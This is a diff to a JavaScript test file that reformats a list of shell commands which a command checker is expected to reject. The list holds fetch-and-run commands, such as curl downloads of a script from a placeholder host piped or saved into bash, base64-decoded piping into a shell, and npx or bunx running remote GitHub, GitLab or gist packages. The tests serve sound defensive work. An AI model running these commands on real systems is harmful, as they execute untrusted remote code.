@@ -15,7 +15,18 @@ describe('a file that stands on the disk may be piped into a shell as it may be 
     expect(await kindsOf(command)).toEqual(['pass', 'pass']);
   });
 
-  it.each(['cat missing.sh | bash', 'curl -s https://x.test/i.sh > setup.sh; cat setup.sh | bash', 'ln -s /tmp/x setup.sh; cat setup.sh | bash', 'cat "$X" | bash', 'cat setup.sh | base64 -d | bash', 'cat setup.sh - | bash', 'curl --version https://x.test/i.sh | bash', 'npx github:a/b', 'bunx gitlab:a/b', 'npx -y gist:1234'])('and not %s', async (command) => {
+  it.each([
+    'cat missing.sh | bash',
+    'curl -s https://x.test/i.sh > setup.sh; cat setup.sh | bash',
+    'ln -s /tmp/x setup.sh; cat setup.sh | bash',
+    'cat "$X" | bash',
+    'cat setup.sh | base64 -d | bash',
+    'cat setup.sh - | bash',
+    'curl --version https://x.test/i.sh | bash',
+    'npx github:a/b',
+    'bunx gitlab:a/b',
+    'npx -y gist:1234',
+  ])('and not %s', async (command) => {
     expect(await kindsOf(command)).not.toEqual(['pass', 'pass']);
   });
 
